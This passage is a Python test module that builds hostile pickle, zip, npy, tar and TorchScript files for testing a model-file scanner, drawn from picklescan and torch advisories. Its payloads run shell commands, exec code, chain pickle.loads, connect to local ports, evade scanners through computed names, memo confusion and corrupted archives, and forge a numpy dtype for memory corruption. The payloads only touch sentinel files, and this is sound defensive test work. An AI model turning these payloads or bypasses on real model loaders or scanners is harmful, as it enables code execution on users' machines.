"""The public advisories against pickle scanners as hostile files, and benign checkpoints.

`tests/hostile_corpus.py` covers the ways a pickle reaches a global; this
module covers *which* globals the 2025-2026 advisories used and the bypass
classes the peer scanners (picklescan, modelscan, fickling, modelaudit)
published, plus the hostile containers of issue 11. Every file is written at
test time; nothing that runs code is committed.

Each hostile case carries a payload that, if anything ever ran it, would leave
a mark in the sentinel folder: a file it creates (`touch`, `open`, a command,
a log file), or a connection to a local port of `Listener`, which then creates
the case's sentinel file. `effect` says which, or why a case has none here
(`"none"`: the name is what the advisory reported, the call needs a method
call or a newer Python; `"crash"`: it corrupts memory; see each case).

`torch_runs` marks files that torch's own `weights_only=True` loader runs with
no allowlist at all, on the torch releases named (CVE-2025-32434: torch <= 2.5
hands TorchScript archives to torch.jit.load; CVE-2026-24747: torch < 2.10
writes into tensors): the scan must call them DANGEROUS there, and no test
ever loads them there.

`BENIGN` lists harmless checkpoints the way people make them (real
`torch.save` output of the objects training code saves, TorchScript, CRC-less
and re-zipped archives, files written under numpy 1), for the agreement and
false-alarm checks. Run as a script it writes them:

    python tests/advisory_corpus.py benign FOLDER   # in any environment
"""

from __future__ import annotations

import io
import pickle
import selectors
import socket
import struct
import sys
import tarfile
import threading
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from hostile_corpus import (
    EMPTY_DICT,
    MARK,
    MEMOIZE,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    binbytes,
    binget,
    binunicode,
    glob,
    proto,
    py_code,
    real_torch_save,
    shell,
    torch_zip,
    ustr,
)

# --- values as opcodes ------------------------------------------------------------------


class Op(bytes):
    """Opcodes that push one value (a call, a global): embedded as they are."""


def lit(value: object) -> bytes:
    """A plain value as opcodes (protocol 2, plus BINBYTES for bytes), never via `pickle`."""
    if isinstance(value, Op):
        return bytes(value)
    if value is None:
        return b"N"
    if value is True or value is False:
        return b"\x88" if value else b"\x89"
    if isinstance(value, bytes):
        return binbytes(value)
    if isinstance(value, str):
        return binunicode(value)
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, tuple):
        return MARK + b"".join(map(lit, value)) + TUPLE
    if isinstance(value, list):
        return b"]" + (MARK + b"".join(map(lit, value)) + b"e" if value else b"")
    if isinstance(value, dict):
        items = b"".join(lit(k) + lit(v) for k, v in value.items())
        return EMPTY_DICT + (MARK + items + b"u" if value else b"")
    raise TypeError(type(value))


def ref(module: str, name: str) -> Op:
    """The global `module.name` itself (GLOBAL)."""
    return Op(glob(module, name))


def call(func: bytes, *args: object) -> Op:
    """`func(*args)`: `func` is a global (`ref`) or any opcodes pushing a callable."""
    return Op(bytes(func) + MARK + b"".join(map(lit, args)) + TUPLE + REDUCE)


def calls(module: str, name: str, *args: object) -> Op:
    return call(ref(module, name), *args)


def pickled(value: Op, protocol: int = 2) -> bytes:
    """A whole pickle whose result is `value`."""
    return proto(protocol) + bytes(value) + STOP


def touch_pickle(s: Path) -> bytes:
    """A pickle that runs `touch S` (the inner pickle of the chains below)."""
    return pickled(calls("posix", "system", shell(s)))


# --- a local port per network payload --------------------------------------------------


class Listener:
    """Local TCP ports; a connection to one creates that case's sentinel file.

    A payload that opens a connection (POP3, NNTP, urlopen, a TLS handshake)
    is pointed at its own port here, so reaching the network is as visible as
    creating a file. Nothing is ever read or answered.
    """

    def __init__(self) -> None:
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    def port(self, sentinel: Path) -> int:
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ, sentinel)
        if self._thread is None:
            self._thread = threading.Thread(target=self._serve, daemon=True)
            self._thread.start()
        return int(sock.getsockname()[1])

    def _serve(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.1):
                try:
                    conn, _ = key.fileobj.accept()  # type: ignore[union-attr]
                except OSError:
                    continue
                conn.close()
                Path(key.data).touch()

    def close(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=2)
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()


# --- payloads, one per advisory ----------------------------------------------------------
#
# Each takes the sentinel path and a local port and returns the pickle that
# would run it. `pickle.load` of it (the proof test) creates the sentinel.


def uuid_command(s: Path, port: int) -> bytes:
    # uuid._get_command_stdout(command, *args) runs shutil.which(command) with args.
    return pickled(calls("uuid", "_get_command_stdout", "touch", str(s)))


def aix_support(s: Path, port: int) -> bytes:
    # Python >= 3.12: _aix_support._read_cmd_output(cmd) is os.system(cmd + " >tmp").
    return pickled(calls("_aix_support", "_read_cmd_output", shell(s)))


def osx_support(s: Path, port: int) -> bytes:
    return pickled(calls("_osx_support", "_read_output", shell(s)))


def imap_stream(s: Path, port: int) -> bytes:
    # IMAP4_stream(command) is subprocess.Popen(command, shell=True), then it waits for a greeting.
    return pickled(calls("imaplib", "IMAP4_stream", shell(s) + " </dev/null"))


def pyrepl_pager(s: Path, port: int) -> bytes:
    # Python >= 3.13: _pyrepl.pager.pipe_pager(text, cmd) runs cmd in a shell.
    return pickled(calls("_pyrepl.pager", "pipe_pager", "x", shell(s)))


def collect_env(s: Path, port: int) -> bytes:
    return pickled(calls("torch.utils.collect_env", "run", shell(s)))


def bottleneck(s: Path, port: int) -> bytes:
    # torch <= 2.9: run_cprofile(code, globs) is exec under cProfile.
    return pickled(calls("torch.utils.bottleneck.__main__", "run_cprofile", py_code(s), {}))


def file_handler(s: Path, port: int) -> bytes:
    # Creating the handler creates (opens for append) the log file: the sentinel itself.
    return pickled(calls("logging", "FileHandler", str(s)))


def subinterpreter(s: Path, port: int) -> bytes:
    # Python 3.8-3.12: _xxsubinterpreters.run_string(create(), code).
    return pickled(
        calls("_xxsubinterpreters", "run_string", calls("_xxsubinterpreters", "create"), py_code(s))
    )


def interpreters(s: Path, port: int) -> bytes:
    # Python >= 3.13: _interpreters.exec(create(), code).
    return pickled(calls("_interpreters", "exec", calls("_interpreters", "create"), py_code(s)))


def pop3(s: Path, port: int) -> bytes:
    return pickled(calls("poplib", "POP3", "127.0.0.1", port))


def nntp(s: Path, port: int) -> bytes:
    return pickled(calls("nntplib", "NNTP", "127.0.0.1", port))


def aiohttp_session(s: Path, port: int) -> bytes:
    # A session only connects when a coroutine of it runs: the name is the finding.
    return pickled(calls("aiohttp.client", "ClientSession"))


def urllib2_urlopen(s: Path, port: int) -> bytes:
    # Protocol 2: CPython maps urllib2.urlopen to urllib.request.urlopen.
    return pickled(calls("urllib2", "urlopen", f"http://127.0.0.1:{port}/"))


def httplib_connection(s: Path, port: int) -> bytes:
    # httplib.HTTPConnection is http.client.HTTPConnection: it connects on its first request.
    return pickled(calls("httplib", "HTTPConnection", "127.0.0.1", port))


def socketserver_py2(s: Path, port: int) -> bytes:
    # SocketServer.TCPServer binds and listens on the address it is given.
    return pickled(calls("SocketServer", "TCPServer", ("127.0.0.1", 0), None))


def basichandlers(s: Path, port: int) -> bytes:
    # basichandlers("pickle", data) is pickle.loads(data): a pickle inside the pickle.
    return pickled(
        calls("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle",
              touch_pickle(s)),
        protocol=3,
    )  # fmt: skip


def config_module(s: Path, port: int) -> bytes:
    # ConfigModule.load_config(self, data) runs pickle.loads(data) before it looks at self.
    return pickled(
        Op(
            ustr("torch.utils._config_module") + ustr("ConfigModule.load_config") + STACK_GLOBAL
            + MARK + lit({}) + binbytes(touch_pickle(s)) + TUPLE + REDUCE
        ),
        protocol=4,
    )  # fmt: skip


def exec_wrapper(s: Path, port: int) -> bytes:
    return pickled(calls("torch.jit.unsupported_tensor_ops", "execWrapper", py_code(s), {}, {}))


def grammar_loads(s: Path, port: int) -> bytes:
    # lib2to3 Grammar.loads(self, pkl) is self.__dict__.update(pickle.loads(pkl)) (dotted:
    # protocol 4); any object with a __dict__ serves as self.
    return pickled(
        Op(
            ustr("lib2to3.pgen2.grammar") + ustr("Grammar.loads") + STACK_GLOBAL
            + MARK + bytes(calls("types", "SimpleNamespace")) + binbytes(touch_pickle(s))
            + TUPLE + REDUCE
        ),
        protocol=4,
    )  # fmt: skip


def asyncio_start(s: Path, port: int) -> bytes:
    # _UnixSubprocessTransport._start(self, args, shell, ...) runs Popen before it sets self._proc.
    return pickled(
        Op(
            ustr("asyncio.unix_events") + ustr("_UnixSubprocessTransport._start") + STACK_GLOBAL
            + MARK + lit({}) + lit(shell(s)) + lit(True) + lit(None) + lit(None) + lit(None)
            + lit(0) + TUPLE + REDUCE
        ),
        protocol=4,
    )  # fmt: skip


def distutils_write(s: Path, port: int) -> bytes:
    return pickled(calls("distutils.file_util", "write_file", str(s), ["x"]))


def pydoc_locate(s: Path, port: int) -> bytes:
    # methodcaller("system", cmd)(pydoc.locate("os"))
    caller = calls("operator", "methodcaller", "system", shell(s))
    return pickled(call(caller, calls("pydoc", "locate", "os")))


def io_fileio(s: Path, port: int) -> bytes:
    return pickled(calls("_io", "FileIO", str(s), "w"))


def urlopen(s: Path, port: int) -> bytes:
    return pickled(calls("urllib.request", "urlopen", f"http://127.0.0.1:{port}/"))


def ssl_certificate(s: Path, port: int) -> bytes:
    # The DNS / TLS exfiltration of picklescan's dns_exfiltration.npy.
    return pickled(calls("ssl", "get_server_certificate", ("127.0.0.1", port)))


def socket_connect(s: Path, port: int) -> bytes:
    return pickled(calls("socket", "create_connection", ("127.0.0.1", port)))


def runstring(s: Path, port: int) -> bytes:
    return pickled(calls("numpy.testing._private.utils", "runstring", py_code(s), {}))


def timeit_setup(s: Path, port: int) -> bytes:
    return pickled(calls("timeit", "timeit", "", py_code(s), None, 1))


def cprofile_run(s: Path, port: int) -> bytes:
    return pickled(calls("cProfile", "run", py_code(s)))


def venv_create(s: Path, port: int) -> bytes:
    # venv.create(dir) creates the folder (the sentinel) and its layout.
    return pickled(calls("venv", "create", str(s)))


def inductor_compile(s: Path, port: int) -> bytes:
    # compile_file(input, output, cmd) runs cmd.
    return pickled(
        calls("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", shell(s)])
    )


def pickle_loads(s: Path, port: int) -> bytes:
    return pickled(calls("_pickle", "loads", touch_pickle(s)), protocol=3)


def partial_torch_load(s: Path, port: int) -> bytes:
    # functools.partial(torch.load, OTHER, weights_only=False)(): loads another file, unrestricted.
    # The other file lives beside the sentinel folder, not in it (an empty folder means
    # nothing ran) and not among the corpus files.
    other = s.parent.with_name(s.parent.name + "-chained") / f"{s.name}.pkl"
    other.parent.mkdir(exist_ok=True)
    other.write_bytes(touch_pickle(s))
    part = calls("functools", "partial", ref("torch.serialization", "load"))
    state = lit((Op(glob("torch.serialization", "load")), (str(other),),
                 {"weights_only": False}, None))  # fmt: skip
    return pickled(call(Op(bytes(part) + state + b"b")))


def attrgetter_import(s: Path, port: int) -> bytes:
    # operator.attrgetter("system")(__import__("os"))(cmd) (picklescan malicious12).
    system = call(calls("operator", "attrgetter", "system"), calls("builtins", "__import__", "os"))
    return pickled(call(system, shell(s)))


def copyreg_extension(s: Path, port: int) -> bytes:
    # copyreg.add_extension("posix", "system", 0x4242), then EXT2 0x4242: the code names os.system.
    register = calls("copyreg", "add_extension", "posix", "system", 0x4242)
    return pickled(Op(bytes(register) + POP + b"\x83" + (0x4242).to_bytes(2, "little")
                      + lit((shell(s),)) + REDUCE))  # fmt: skip


def type_hints(s: Path, port: int) -> bytes:
    # typing.get_type_hints evaluates string annotations: a SimpleNamespace (plain data)
    # carrying `__annotations__ = {"x": "<expression>"}` is all it needs.
    code = f"__import__('os').system({shell(s)!r})"
    namespace = Op(bytes(calls("types", "SimpleNamespace")) + lit({"__annotations__": {"x": code}})
                   + b"b")  # fmt: skip
    return pickled(call(ref("typing", "get_type_hints"), namespace))


def inspect_getattr(s: Path, port: int) -> bytes:
    # inspect.getattr_static(pathlib.os, "system"): `pathlib.os` is the os module.
    system = calls("inspect", "getattr_static", ref("pathlib", "os"), "system")
    return pickled(call(system, shell(s)))


def build_module_then_computed(s: Path, port: int) -> bytes:
    # BUILD on the module json.decoder sets two attributes to "posix" and "system";
    # STACK_GLOBAL then reads them back and uses the results as the names of a
    # third STACK_GLOBAL: no string constant in the file names posix.system.
    module = ustr("json") + ustr("decoder") + STACK_GLOBAL
    rewrite = module + lit({"_m": "posix", "_n": "system"}) + b"b" + POP
    name = ustr("json.decoder") + ustr("_m") + STACK_GLOBAL
    attr = ustr("json.decoder") + ustr("_n") + STACK_GLOBAL
    return pickled(Op(rewrite + name + attr + STACK_GLOBAL + lit((shell(s),)) + REDUCE), 4)


def computed_names(s: Path, port: int) -> bytes:
    # STACK_GLOBAL(str("posix"), str("system")): names that are call results.
    names = calls("builtins", "str", "posix") + calls("builtins", "str", "system")
    return pickled(Op(names + STACK_GLOBAL + lit((shell(s),)) + REDUCE), 4)


def short_frame(s: Path, port: int) -> bytes:
    # A FRAME declaring far more bytes than follow: pickle's C reader gives up,
    # its pure-Python reader (pickle._loads) reads on and runs the call.
    body = ustr("posix") + MEMOIZE + ustr("system") + MEMOIZE + STACK_GLOBAL
    call_ = binget(0) + binget(1) + POP + POP + lit((shell(s),)) + REDUCE + STOP
    return proto(4) + b"\x95" + struct.pack("<Q", 1 << 20) + body + call_


def memo_keyerror(s: Path, port: int) -> bytes:
    # picklescan's keyerror-exploit: os.system runs, then a BINGET of a missing memo key.
    return (proto(4) + bytes(calls("os", "system", shell(s))) + POP + ustr("os") + MEMOIZE
            + binget(3) + binget(0) + STACK_GLOBAL + b"K\x42" + STOP)  # fmt: skip


def memo_type_confusion(s: Path, port: int) -> bytes:
    # picklescan's type-confusion-exploit: STACK_GLOBAL of (42, "os") after the call.
    confused = b"J*\x00\x00\x00" + MEMOIZE + ustr("os") + MEMOIZE + binget(0) + binget(1)
    return (proto(4) + bytes(calls("os", "system", shell(s))) + POP + confused + STACK_GLOBAL
            + b"K\x42" + STOP)  # fmt: skip


def runpy_run_path(s: Path, port: int) -> bytes:
    # runpy.run_path(file) runs a file the attacker placed (beside the sentinel folder).
    script = s.parent.with_name(s.parent.name + "-chained") / f"{s.name}.py"
    script.parent.mkdir(exist_ok=True)
    script.write_text(py_code(s) + "\n")
    return pickled(calls("runpy", "run_path", str(script)), 4)


def spawnv_passfds(s: Path, port: int) -> bytes:
    # multiprocessing.util.spawnv_passfds(path, args, fds) forks and execs.
    argv = [b"/bin/sh", b"-c", shell(s).encode()]
    return pickled(calls("multiprocessing.util", "spawnv_passfds", b"/bin/sh", argv, ()), 4)


def interactive_runsource(s: Path, port: int) -> bytes:
    # getattr(code.InteractiveInterpreter(), "runsource")(source)
    runsource = calls("builtins", "getattr", calls("code", "InteractiveInterpreter"), "runsource")
    return pickled(call(runsource, py_code(s)), 4)


def pty_spawn(s: Path, port: int) -> bytes:
    return pickled(calls("pty", "spawn", ["/bin/sh", "-c", shell(s)]), 4)


def eval_p4(s: Path, port: int) -> bytes:
    return pickled(calls("builtins", "eval", py_code(s)), 4)


def exec_p4(s: Path, port: int) -> bytes:
    return pickled(calls("builtins", "exec", py_code(s)), 4)


# --- containers ------------------------------------------------------------------------


def torch_saved() -> list[tuple[str, bytes]]:
    """The members of a real torch.save file (imports torch)."""
    with zipfile.ZipFile(io.BytesIO(real_torch_save())) as zf:
        return [(n, zf.read(n)) for n in zf.namelist()]


def as_main(payload: bytes) -> bytes:
    """Real torch.save output whose data.pkl is the payload (torch reads it)."""
    return torch_zip([(n, payload if n.endswith("/data.pkl") else d) for n, d in torch_saved()])


def local_name_differs(payload: bytes) -> bytes:
    """as_main, with the local header naming the pickle differently (torch reads the directory)."""
    raw = bytearray(as_main(payload))
    at = raw.index(b"/data.pkl")  # the first occurrence is the local header's
    raw[at : at + 9] = b"/xxxx.pkl"
    return bytes(raw)


def crc_corrupted(payload: bytes) -> bytes:
    """as_main, with every CRC wrong (Python's zipfile refuses to read; torch does not check)."""
    raw = bytearray(as_main(payload))
    for sig, off in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = 0
        while (at := raw.find(sig, at)) >= 0:
            struct.pack_into("<L", raw, at + off, 0xDEADBEEF)
            at += 4
    return bytes(raw)


def duplicates(payload: bytes, *, payload_first: bool) -> bytes:
    """Two archive/data.pkl members, the payload first or second.

    miniz finds a repeated name through its heap-sorted directory, which is
    not stable: of two copies of one name torch 2.5.1 reads the first and
    torch 2.13 the second (measured; the scan follows each, tests/scan/test_ziparchive.py).
    """
    members = torch_saved()
    main = next(d for n, d in members if n.endswith("/data.pkl"))
    copies = [payload, main] if payload_first else [main, payload]
    out = []
    for n, d in members:
        out += [(n, c) for c in copies] if n.endswith("/data.pkl") else [(n, d)]
    return torch_zip(out)


def data_txt(payload: bytes) -> bytes:
    """picklescan's malicious1_wrong_ext.zip: a zip whose only member, data.txt, is a pickle."""
    return torch_zip([("data.txt", payload)])


def npy(payload: bytes) -> bytes:
    """A .npy object array whose pickle is the payload (numpy.load(allow_pickle=True) runs it)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npz(payload: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        zf.writestr("clean.npy", npy(pickle.dumps([1], protocol=2)))
        zf.writestr("weights.npy", npy(payload))
    return buf.getvalue()


def npy_in_zip_as_bin(payload: bytes) -> bytes:
    """A .npy object array stored under another name (`weights.bin`) in a plain zip."""
    return torch_zip([("bundle/weights.bin", npy(payload))])


def tarball(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_tar(payload: bytes) -> bytes:
    """torch < 0.4's tar format; torch.load(weights_only=False) unpickles its `pickle` member."""
    return tarball({
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": payload,
        "tensors": pickle.dumps(0, protocol=2),
        "storages": pickle.dumps(0, protocol=2),
    })  # fmt: skip


def gzipped(payload: bytes) -> bytes:
    """`model.pkl.gz`: what `pickle.load(gzip.open(...))` (and joblib's compressed files) read."""
    import gzip

    return gzip.compress(payload)


def bz2_torch_zip(payload: bytes) -> bytes:
    """A torch zip with a hostile data.pkl, bzip2-compressed as a whole (`model.pt.bz2`)."""
    import bz2

    return bz2.compress(as_main(payload))


def xz_npy(payload: bytes) -> bytes:
    import lzma

    return lzma.compress(npy(payload))


def zip_in_tar(payload: bytes) -> bytes:
    return tarball({"release/model.pt": as_main(payload)})


def _legacy_pickle_ends(raw: bytes, count: int) -> list[int]:
    """Where each of the first `count` pickles of a legacy file ends (pickletools, never runs)."""
    import pickletools

    ends, pos = [], 0
    for _ in range(count):
        for op, _arg, at in pickletools.genops(io.BytesIO(raw[pos:])):
            if op.name == "STOP":
                pos += at + 1
                break
        ends.append(pos)
    return ends


def _legacy_saved() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def legacy_magic_bypass(payload: bytes) -> bytes:
    """A legacy-format file whose first pickle (the magic number) is the payload.

    torch.load(weights_only=False) unpickles it first; picklescan scans it
    since a 2025 advisory ("magic number bypass").
    """
    raw = _legacy_saved()
    return payload + raw[_legacy_pickle_ends(raw, 1)[0] :]


def legacy_truncated(payload: bytes) -> bytes:
    """A legacy file whose data pickle is the payload and whose storage keys are cut short."""
    raw = _legacy_saved()
    sys_info_end = _legacy_pickle_ends(raw, 3)[2]
    return raw[:sys_info_end] + payload + b"\x80\x02]q\x00(X\x02\x00"


# --- TorchScript archives (need torch.jit to write) -------------------------------------


def _script(setstate_path: str | None) -> bytes:
    import torch

    if setstate_path is None:

        class Plain(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.lin = torch.nn.Linear(2, 2)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return self.lin(x)

        module = torch.jit.script(Plain())
    else:

        class Loader(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.path = setstate_path
                self.n = 0

            @torch.jit.export
            def __getstate__(self) -> tuple[str, bool]:
                return (self.path, self.training)

            @torch.jit.export
            def __setstate__(self, state: tuple[str, bool]) -> None:
                self.path = state[0]
                self.training = state[1]
                # from_file(path, shared=True) opens the file with O_CREAT: TorchScript
                # has no open(), but this op writes the sentinel all the same.
                self.n = torch.from_file(self.path, True, 1).numel()

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return x

        module = torch.jit.script(Loader())
    buf = io.BytesIO()
    torch.jit.save(module, buf)
    return buf.getvalue()


def _scripted(setstate_path: str | None) -> bytes:
    """torch.jit.save of a small module; with a path, its __setstate__ creates that file."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch >= 2.10: torch.jit.script is deprecated
        return _script(setstate_path)


def torchscript_setstate(s: Path, port: int) -> bytes:
    return _scripted(str(s))


def torchscript_member(member: str) -> Callable[[Path, int], bytes]:
    """A benign TorchScript archive whose `member` pickle is replaced by a hostile one."""

    def build(s: Path, port: int) -> bytes:
        with zipfile.ZipFile(io.BytesIO(_scripted(None))) as zf:
            entries = [(n, zf.read(n)) for n in zf.namelist()]
        return torch_zip(
            [(n, touch_pickle(s) if n.endswith("/" + member) else d) for n, d in entries]
        )

    return build


# --- memory corruption through names the scan may advise ---------------------------------


def forged_dtype_array() -> bytes:
    """torch.save of a float64 array whose dtype claims no objects but has an object field.

    numpy's dtype.__setstate__ trusts the flags it is given, so the array is
    built from raw bytes and reading its field dereferences 0x4141414141414141.
    Built through numpy's own API on plain bytes: nothing is dereferenced here.
    """
    import numpy as np
    import torch

    cls, args, _ = np.dtype("f8").__reduce__()
    forged = cls(*args)
    forged.__setstate__((3, "<", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 0))
    array = np.ndarray.__new__(np.ndarray, (0,), "b")
    array.__setstate__((1, (1,), forged, False, (0x4141414141414141).to_bytes(8, "little")))
    buf = io.BytesIO()
    torch.save({"metric": array}, buf)
    return buf.getvalue()


def forged_dtype(s: Path, port: int) -> bytes:
    return forged_dtype_array()


def forged_dtype_big(s: Path, port: int) -> bytes:
    """The same, with 1.2 MB of padding: the scanner's fast path must hand it over."""
    members = []
    with zipfile.ZipFile(io.BytesIO(forged_dtype_array())) as zf:
        for n in zf.namelist():
            d = zf.read(n)
            if n.endswith("/data.pkl"):  # {"pad": "xxx...", <the rest of the dict>}
                pad = binunicode("pad") + binunicode("x" * 1_200_000)
                at = d.index(b"(") + 1  # the MARK of the dict's SETITEMS
                d = d[:at] + pad + d[at:]
            members.append((n, d))
    return torch_zip(members)


def tensor_setitem(s: Path, port: int) -> bytes:
    """torch.save output whose tensor gets `tensor[0] = 7` while loading (SETITEM on it).

    torch < 2.10 lets this through; with a storage shorter than the tensor
    claims, the write lands past it (CVE-2026-24747). Here the write stays in
    bounds: the finding is the opcode, not a crash.
    """
    members = []
    for n, d in torch_saved():
        if n.endswith("/data.pkl"):
            at = d.index(b"tq\x0cRq\r") + 6  # the REDUCE of the tensor, and its memo PUT
            d = d[:at] + b"K\x00K\x07s" + d[at:]
        members.append((n, d))
    return torch_zip(members)


# --- the cases ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile file: how it is built, what the scan must flag, and what it would do."""

    id: str
    suffix: str
    payload: Callable[[Path, int], bytes]
    dangerous: tuple[str, ...]  # names (or name prefixes, ending in "*") the scan must flag
    why: str
    source: str  # the advisory or the peer test it comes from
    effect: str = "file"  # "file", "connect", "crash" or "none" (see the module docstring)
    wrap: Callable[[bytes], bytes] | None = None  # the container around the payload
    proof: str = "pickle"  # how the effect is shown: "pickle", "torchscript", "" (not shown)
    needs: tuple[str, ...] = ()  # modules the payload's target lives in (the proof skips without)
    torch_runs: str = ""  # "<2.6": torch's weights_only loader runs it unaided there
    network: bool = False

    def build(self, sentinel: Path, port: int) -> bytes:
        data = self.payload(sentinel, port)
        return self.wrap(data) if self.wrap else data


GHSA = "picklescan GHSA-"
CASES: tuple[Case, ...] = (
    # The names issue 11 reported, from the 2025 advisories against picklescan.
    Case("uuid-get-command-stdout", ".pkl", uuid_command, ("uuid._get_command_stdout",),
         "uuid._get_command_stdout('touch', S) runs the command", "issue 11; picklescan 2025"),
    Case("aix-read-cmd-output", ".pkl", aix_support, ("_aix_support._read_cmd_output",),
         "_aix_support._read_cmd_output(cmd) is os.system (Python >= 3.12)",
         "issue 11; picklescan 2025", needs=("_aix_support:_read_cmd_output",)),
    Case("osx-read-output", ".pkl", osx_support, ("_osx_support._read_output",),
         "_osx_support._read_output(cmd) runs a shell", "issue 11; picklescan 2025"),
    Case("imaplib-imap4-stream", ".pkl", imap_stream, ("imaplib.IMAP4_stream",),
         "IMAP4_stream(cmd) is Popen(cmd, shell=True)", "issue 11; picklescan 2025"),
    Case("pyrepl-pipe-pager", ".pkl", pyrepl_pager, ("_pyrepl.pager.pipe_pager",),
         "_pyrepl.pager.pipe_pager(text, cmd) runs a shell (Python >= 3.13)",
         "issue 11; picklescan 2025", needs=("_pyrepl.pager",)),
    Case("torch-collect-env-run", ".pkl", collect_env, ("torch.utils.collect_env.run",),
         "torch.utils.collect_env.run(cmd) runs a shell", f"issue 11; {GHSA}f745-w6jp-hpxx",
         needs=("torch.utils.collect_env",)),
    Case("torch-bottleneck-run-cprofile", ".pkl", bottleneck,
         ("torch.utils.bottleneck.__main__.run_cprofile",),
         "run_cprofile(code, globs) is exec (torch <= 2.9)", f"issue 11; {GHSA}4r9r-ch6f-vxmx",
         needs=("torch.utils.bottleneck.__main__",)),
    Case("logging-file-handler", ".pkl", file_handler, ("logging.FileHandler",),
         "logging.FileHandler(path) creates the file", "issue 11; picklescan 2025"),
    Case("xxsubinterpreters-run-string", ".pkl", subinterpreter,
         ("_xxsubinterpreters.run_string", "_xxsubinterpreters.create"),
         "run_string(create(), code): code in a subinterpreter (Python 3.8-3.12)",
         "issue 11 (_interpreters.create)", needs=("_xxsubinterpreters",)),
    Case("interpreters-exec", ".pkl", interpreters, ("_interpreters.exec", "_interpreters.create"),
         "_interpreters.exec(create(), code) (Python >= 3.13)", "issue 11; picklescan 2025",
         needs=("_interpreters",)),
    Case("poplib-pop3", ".pkl", pop3, ("poplib.POP3",), "POP3(host, port) connects",
         "issue 11; modelaudit", effect="connect", network=True),
    Case("nntplib-nntp", ".pkl", nntp, ("nntplib.NNTP",), "NNTP(host, port) connects",
         "issue 11; modelaudit", effect="connect", network=True, needs=("nntplib",)),
    Case("aiohttp-client-session", ".pkl", aiohttp_session, ("aiohttp.client.ClientSession",),
         "aiohttp ClientSession (connects once a coroutine runs)", "issue 11; picklescan",
         effect="none", proof=""),
    Case("py2-urllib2-urlopen", ".pkl", urllib2_urlopen, ("urllib2.urlopen",),
         "urllib2.urlopen: CPython loads it as urllib.request.urlopen (protocol 2)",
         "issue 11", effect="connect", network=True),
    Case("py2-httplib-connection", ".pkl", httplib_connection, ("httplib.HTTPConnection",),
         "httplib.HTTPConnection is http.client's (connects on its first request)", "issue 11",
         effect="none", proof=""),
    Case("py2-socketserver-tcpserver", ".pkl", socketserver_py2, ("SocketServer.TCPServer",),
         "SocketServer.TCPServer binds and listens", "issue 11", effect="none", proof=""),
    # More advisories against picklescan (2025-2026), from its own test corpus.
    Case("torch-datapipes-basichandlers", ".pkl", basichandlers,
         ("torch.utils.data.datapipes.utils.decoder.basichandlers",),
         "basichandlers('pickle', data) is pickle.loads(data)", f"{GHSA}h3qp-7fh3-f8h4",
         needs=("torch.utils.data.datapipes.utils.decoder",)),
    Case("torch-config-module-load-config", ".pkl", config_module,
         ("torch.utils._config_module.ConfigModule.load_config",),
         "ConfigModule.load_config(self, data) is pickle.loads(data)", f"{GHSA}vv6j-3g6g-2pvj",
         needs=("torch.utils._config_module",)),
    Case("torch-jit-exec-wrapper", ".pkl", exec_wrapper,
         ("torch.jit.unsupported_tensor_ops.execWrapper",),
         "execWrapper(code, glob, loc) is exec", f"{GHSA}vr7h-p6mm-wpmh",
         needs=("torch.jit.unsupported_tensor_ops",)),
    Case("lib2to3-grammar-loads", ".pkl", grammar_loads, ("lib2to3.pgen2.grammar.Grammar.loads",),
         "Grammar.loads(self, data) is pickle.loads(data)", f"{GHSA}f54q-57x4-jg88",
         needs=("lib2to3.pgen2.grammar",)),
    Case("asyncio-subprocess-start", ".pkl", asyncio_start,
         ("asyncio.unix_events._UnixSubprocessTransport._start",),
         "_UnixSubprocessTransport._start runs Popen(args, shell=True)", f"{GHSA}q77w-mwjj-7mqx"),
    Case("distutils-write-file", ".pkl", distutils_write, ("distutils.file_util.write_file",),
         "distutils.file_util.write_file(path, lines)", f"{GHSA}m273-6v24-x4m4",
         needs=("distutils.file_util",)),
    Case("pydoc-locate-methodcaller", ".pkl", pydoc_locate, ("pydoc.locate",),
         "methodcaller('system', cmd)(pydoc.locate('os'))", f"{GHSA}84r2-jw7c-4r5q"),
    Case("io-fileio", ".pkl", io_fileio, ("_io.FileIO",), "_io.FileIO(path, 'w') creates a file",
         "picklescan io_FileIO"),
    Case("urllib-request-urlopen", ".pkl", urlopen, ("urllib.request.urlopen",),
         "urllib.request.urlopen(url)", "picklescan urllib_request_urlopen", effect="connect",
         network=True),
